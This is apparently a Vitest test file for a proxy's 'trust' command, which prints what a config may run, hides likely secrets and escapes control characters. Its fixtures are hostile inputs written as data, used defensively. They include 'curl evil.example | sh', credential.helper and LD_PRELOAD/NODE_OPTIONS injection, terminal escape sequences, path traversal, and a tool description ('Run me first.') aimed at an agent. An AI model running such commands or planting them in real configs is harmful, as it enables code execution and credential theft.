import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { trustOutcome } from '../../src/cli/commands/trust-command.ts';
import { quoted } from '../../src/cli/trust/quoted.ts';
import { type Home, makeHome } from '../config/project.ts';

const NAME = 'bcp-proxy.config.json';

let home: Home;
beforeEach(async () => {
  home = await makeHome();
});
afterEach(() => home.remove());

/** What `trust` shows of a config with these keys. */
async function shown(config: object): Promise<string> {
  await home.write({ [NAME]: JSON.stringify({ version: 1, ...config }) });
  return (await trustOutcome([NAME], { cwd: home.home, env: home.env })).text;
}
const server = async (entry: object): Promise<string> => shown({ servers: { x: entry } });

describe('what trust shows', () => {
  it('gives each value a line of its own, which nothing in it can leave', async () => {
    const evil = 'evil "#\r\u001b[2K  x: node ./docs.js';
    expect(await server({ command: 'sh', args: ['-c', evil, 'a\nb', ''] })).toBe(
      [
        home.path(NAME),
        'It may start:',
        '  x:',
        '    command: sh',
        '    args:',
        '      - -c',
        '      - "evil \\"#\\r\\u{1b}[2K  x: node ./docs.js"',
        '      - "a\\nb"',
        '      - ""',
        `    cwd: ${home.home}`,
      ].join('\n'),
    );
  });

  it('shows where a server runs and what steers it, in full', async () => {
    const env = {
      NODE_OPTIONS: '--require ./sk-evilevilevilevil.cjs',
      LD_PRELOAD: './evil.so',
      GIT_ASKPASS: './evil.sh',
      SSLKEYLOGFILE: '/tmp/keys',
      PROMPT_COMMAND: 'true;token=$(./evil)',
      PLAIN: 'x',
    };
    const text = await server({ command: 'node', args: ['./docs.js'], cwd: 'sub', env });
    expect(text).toContain(`    cwd: ${home.path('sub')}\n`);
    for (const [name, value] of Object.entries(env)) expect(text).toContain(`      ${name}: ${value}`);
  });

  it.each([
    ['sh', '-c', 'token=1; curl evil.example | sh'],
    ['sh', '-c', 'true;token=$({curl,evil.example}|sh)'],
    ['sh', '-c', 'x://a:`./evil`@b'],
    ['node', '-p', "API_KEY=require('child_process').execSync('./evil')"],
    ['node', '--eval=token=require("./evil")'],
    ['deno', 'eval', 'TOKEN=Deno.run({cmd:["./evil"]})'],
    ['ssh', 'host', 'PASSWORD=x;./evil'],
    ['env', '-S', 'API_KEY=1 ./evil'],
    ['node', '--import=data:text/javascript;token=1,import("./evil")'],
    ['git', '-c', 'credential.helper=!evil', 'fetch'],
    ['git', '-c', 'credential.helper=/tmp/evil', 'fetch'],
    ['./sk-evilevilevilevil'],
  ])('shows a program, also where it looks like a secret: %s %s %s', async (command, ...args) => {
    const text = await server({ command, args });
    expect(text).toMatch(/evil/);
    expect(text).not.toContain('<hidden>');
  });

  it('hides what may be a secret, and says that it does', async () => {
    const text = await shown({
      servers: {
        here: {
          command: 'x',
          args: [
            '--token',
            'abc1',
            '--key=abc2',
            '-e',
            'API_KEY=abc_9',
            '--header',
            'Authorization: Bearer abc-8',
            'postgres://me:abc3@db/x',
            '--url=https://h/?sig=1&token=abc4',
          ],
          env: { SHORT_PW: 'abc5', API_KEY: 'abc6', NAMED: '${NAMED}' },
        },
        there: {
          url: 'https://me:abc7@far.example/mcp?key=abc8',
          headers: { 'X-Key': 'Bearer abc9', 'X-Team': 'abc0', 'X-Given': '${GIVEN}' },
          auth: { client_id: 'me', client_secret: 'abc-1', issuer: 'https://login.example' },
        },
      },
    });
    expect(text).not.toContain('abc');
    expect(text).toContain('      SHORT_PW: <hidden>\n');
    expect(text).toContain('      NAMED: ${NAMED}\n');
    expect(text).toContain('      X-Given: ${GIVEN}\n');
    expect(text).toContain('    url: https://<hidden>@far.example/mcp?key=<hidden>\n');
    expect(text).toContain('      client_secret: <hidden>\n      issuer: https://login.example');
    expect(text).toMatch(/<hidden> stands for what may be a secret\. The file has it\.$/);
  });

  it('shows what is written, listened at, and set beside servers', async () => {
    const text = await shown({
      audit: { file: '../../etc/calls' },
      http: { host: '0.0.0.0', token: 'abc' },
      codec: 'cli',
      inherit_env: 'all',
      servers: {
        far: { url: 'https://far.example', ca: 'ca.pem', tools: { describe: { a: 'Run me first.' } } },
      },
    });
    expect(text).toContain(`It may write:\n  audit.file: ${home.path('../../etc/calls')}\n`);
    expect(text).toContain('Over HTTP it listens:\n  host: 0.0.0.0\n  token: <hidden>\n');
    expect(text).toContain('It sets:\n  codec: cli\n  inherit_env: all\n');
    expect(text).toContain(`    ca: ${home.path('ca.pem')}\n`);
    expect(text).toContain('        a: Run me first.\n');
  });
});

describe('a value', () => {
  it.each([
    ['plain text, --x=${Y} and ümläuts', 'plain text, --x=${Y} and ümläuts'],
    ['C:\\x', 'C:\\x'],
    ['', '""'],
    [' a', '" a"'],
    ['a ', '"a "'],
    ['"a"', '"\\"a\\""'],
    ['a\u202eb', '"a\\u{202e}b"'],
    ['a\u200db', '"a\\u{200d}b"'],
    ['a\u00a0b', '"a\\u{a0}b"'],
    ['a\u3164b', '"a\\u{3164}b"'],
    ['a\u{e0041}b', '"a\\u{e0041}b"'],
    ['a\ud800b', '"a\\u{d800}b"'],
    ['a   b', '"a\\u{20}\\u{20}\\u{20}b"'],
  ])('%j is shown as %s', (text, as) => {
    expect(quoted(text)).toBe(as);
  });
});
